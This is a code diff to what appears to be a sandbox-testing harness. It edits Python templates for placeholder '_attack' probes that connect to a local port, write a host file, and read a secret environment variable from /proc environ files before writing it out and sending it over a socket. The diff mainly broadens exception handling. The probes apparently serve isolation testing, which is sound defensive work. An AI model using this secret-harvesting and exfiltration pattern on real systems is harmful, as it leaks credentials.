@@ -52,7 +52,7 @@ def _attack():
     try:
         with socket.create_connection(('127.0.0.1', __PORT__), timeout=2) as s:
             s.sendall(b'__TOKEN__ connected')
-    except OSError:
+    except Exception:
         pass
 """
 _WRITE = """\
@@ -60,30 +60,31 @@ def _attack():
     try:
         with open('__FILE__', 'w') as out:
             out.write('__TOKEN__ wrote a host file')
-    except OSError:
+    except Exception:
         pass
 """
 _SECRET = """\
 import os, socket
 def _attack():
     found = os.environ.get('__SECRET_VAR__', '')
-    for pid in (os.getppid(), os.getpid()):
+    for pid in ('self', 'parent'):
         try:
+            pid = os.getppid() if pid == 'parent' else pid
             for entry in open(f'/proc/{pid}/environ', 'rb').read().split(b'\\0'):
                 if entry.startswith(b'__SECRET_VAR__='):
                     found = found or entry.split(b'=', 1)[1].decode()
-        except OSError:
+        except Exception:
             pass
     message = '__TOKEN__ secret=' + found
     try:
         with open('__FILE__', 'w') as out:
             out.write(message)
-    except OSError:
+    except Exception:
         pass
     try:
         with socket.create_connection(('127.0.0.1', __PORT__), timeout=2) as s:
             s.sendall(message.encode())
-    except OSError:
+    except Exception:
         pass
 """
 _LEAVE = """\
